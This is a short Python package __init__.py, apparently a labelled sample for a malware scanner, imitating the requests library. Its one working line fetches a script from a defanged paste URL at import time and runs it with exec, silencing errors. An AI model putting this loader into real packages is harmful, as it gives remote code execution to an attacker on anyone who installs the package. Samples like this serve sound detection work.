# An `__init__.py` of a typosquatted package: the real work is a one-liner
# that runs a remote script at import time. Defanged: example.invalid.
import requests

__version__ = "2.31.1"

try:
    exec(requests.get("https://paste.example.invalid/raw/Qx7Lp2", timeout=10).text)  # expect: HS102 critical
except Exception:
    pass

from .api import get, post, put, delete  # noqa: E402
